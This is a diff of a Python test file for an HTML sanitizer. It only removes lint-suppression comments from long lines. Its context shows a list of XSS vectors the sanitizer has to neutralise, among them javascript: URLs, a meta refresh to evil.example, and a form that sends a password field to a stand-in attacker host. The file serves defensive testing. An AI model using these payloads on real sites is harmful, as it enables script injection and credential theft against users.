@@ -62,7 +62,7 @@ VECTORS = [
     "<object data='javascript:alert(1)'></object>",
     "<embed src='https://evil.example/x.swf'>",
     "<applet code=x></applet>",
-    "<form action='https://evil.example'><input name=password><button formaction='javascript:alert(1)'>ok</button></form>",  # noqa: E501
+    "<form action='https://evil.example'><input name=password><button formaction='javascript:alert(1)'>ok</button></form>",
     "<isindex action=javascript:alert(1)>",
     "<meta http-equiv=refresh content='0;url=https://evil.example'>",
     "<meta http-equiv='Content-Security-Policy' content=''>",
@@ -159,7 +159,7 @@ def test_the_helper_that_looks_for_dangers_finds_them(html):
     )
 )
 def test_attacks_stay_harmless_in_any_combination(parts):
-    """Cleaning the concatenation of vectors and broken markup leaves nothing, and cleaning again changes nothing bad."""  # noqa: E501
+    """Cleaning the concatenation of vectors and broken markup leaves nothing, and cleaning again changes nothing bad."""
     once = clean_html("".join(parts), scope="#out")
     assert dangers(once) == []
     assert dangers(clean_html(once, scope="#out")) == []
@@ -175,7 +175,7 @@ def test_tables_stay_tables():
     """A data frame keeps its structure, spans and classes."""
     page = Page(
         clean_html(
-            '<table border="1" class="dataframe"><thead><tr><th scope="col" colspan="2">a</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>'  # noqa: E501
+            '<table border="1" class="dataframe"><thead><tr><th scope="col" colspan="2">a</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>'
         )
     )
     assert page.one("table").classes == {"dataframe"}
@@ -186,8 +186,8 @@ def test_tables_stay_tables():
 def test_an_inline_drawing_keeps_its_shapes():
     """Gradients, clip paths and references inside the drawing work as before."""
     html = (
-        '<svg viewBox="0 0 9 9" width="9"><defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient>'  # noqa: E501
-        '<path id="p" d="M0 0"/></defs><use xlink:href="#p"/><rect fill="url(#g)" style="stroke: rgb(0,0,0); stroke-width: 2"/></svg>'  # noqa: E501
+        '<svg viewBox="0 0 9 9" width="9"><defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient>'
+        '<path id="p" d="M0 0"/></defs><use xlink:href="#p"/><rect fill="url(#g)" style="stroke: rgb(0,0,0); stroke-width: 2"/></svg>'
     )
     page = Page(clean_html(html))
     assert page.one("use").attributes == {"xlink:href": "#p"}
@@ -231,7 +231,7 @@ def test_a_remote_image_becomes_a_visible_link():
 
 def test_text_cannot_forge_the_stand_in_of_an_image():
     """Attributes and text that look like our own mark are text."""
-    html = '<p title="<img src=&quot;runner-missing:x&quot;>">&lt;img src="runner-missing:y"&gt;</p><img src="runner-missing:https%3A%2F%2Fe.example" alt="z">'  # noqa: E501
+    html = '<p title="<img src=&quot;runner-missing:x&quot;>">&lt;img src="runner-missing:y"&gt;</p><img src="runner-missing:https%3A%2F%2Fe.example" alt="z">'
     page = Page(clean_html(html))
     assert dangers(page.html) == []
     assert '<img src="runner-missing:y">' in page.one("p").text
@@ -258,9 +258,9 @@ def test_inputs_can_only_be_check_boxes():
 
 
 def test_styles_are_confined_to_their_output():
-    """Selectors get the id of the output; the root becomes the output itself; states of a root elsewhere are dropped."""  # noqa: E501
+    """Selectors get the id of the output; the root becomes the output itself; states of a root elsewhere are dropped."""
     css = safe_stylesheet(
-        ":root{--c:red} html[theme=dark]{--c:blue} body .a, .b > c{color:var(--c)} @media print{.d{display:none}} #T_1 td:nth-child(2){background-color:#fff !important}",  # noqa: E501
+        ":root{--c:red} html[theme=dark]{--c:blue} body .a, .b > c{color:var(--c)} @media print{.d{display:none}} #T_1 td:nth-child(2){background-color:#fff !important}",
         "#out",
     )
     assert "#out{--c:red}" in css
